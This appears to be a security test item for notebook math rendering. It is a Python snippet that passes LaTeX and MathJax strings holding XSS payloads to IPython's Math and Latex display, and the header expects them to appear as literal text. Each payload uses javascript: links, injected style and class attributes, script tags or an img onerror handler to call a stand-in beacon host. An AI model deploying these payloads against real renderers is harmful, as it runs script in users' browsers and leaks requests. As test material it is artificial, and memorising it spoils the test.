# tries: to run scripts by mathematics, which MathJax and its like turn into elements with addresses and styles
# must: show it as it is written
# score: 10
from IPython.display import Latex, Math, display

CALL = "fetch('http://beacon.example/latex');top.owned=self.owned=1;alert(1)"
for words in (
    rf"\href{{javascript:{CALL}}}{{x}}",
    rf"\require{{html}}\style{{background:url(http://beacon.example/l.png)}}{{x}}\cssId{{a}}{{x}}\class{{\"onclick=\"{CALL}}}{{x}}",
    rf"\includegraphics{{http://beacon.example/l.pdf}}\unicode{{<script>{CALL}</script>}}",
    f'</script><script>{CALL}</script><img src=x onerror="{CALL}">',
):
    display(Math(words))
    display(Latex(f"$$ {words} $$\\begin{{x}} {words} \\end{{x}}"))


def add(a, b):
    return a + b
